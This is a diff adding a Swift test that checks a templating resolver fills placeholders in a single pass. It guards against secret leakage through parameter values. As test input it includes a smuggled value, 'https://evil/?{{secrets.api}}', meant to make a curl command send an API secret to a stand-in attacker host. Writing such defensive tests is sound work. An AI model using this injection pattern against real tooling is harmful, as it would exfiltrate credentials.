@@ -32,3 +32,17 @@ import Testing
         #expect(SecretMasker([""]).isEmpty)
     }
 }
+
+/// Placeholders are filled in one pass over the text as written.
+@Suite struct PlaceholderTests {
+    @Test func aValueFilledInIsNeverReadForPlaceholders() {
+        let action = Action(
+            exec: ["/usr/bin/curl", "{{params.url}}", "--token={{secrets.api}}", "{{target.host}}", "{{params.missing}}", "{{nothing}}"],
+            env: ["PW": "{{secrets.api}}", "T": "{{params.tricky}}"])
+        let resolved = Parameters.resolve(
+            action, ["url": "https://evil/?{{secrets.api}}", "tricky": "{{target.host}}"],
+            target: FleetTarget(name: "leaf1", vars: ["host": "10.0.0.1"], batch: 1, runId: "r"), secrets: ["api": "tok"])
+        #expect(resolved.exec == ["/usr/bin/curl", "https://evil/?{{secrets.api}}", "--token=tok", "10.0.0.1", "{{params.missing}}", "{{nothing}}"])
+        #expect(resolved.env == ["PW": "tok", "T": "{{target.host}}"])
+    }
+}
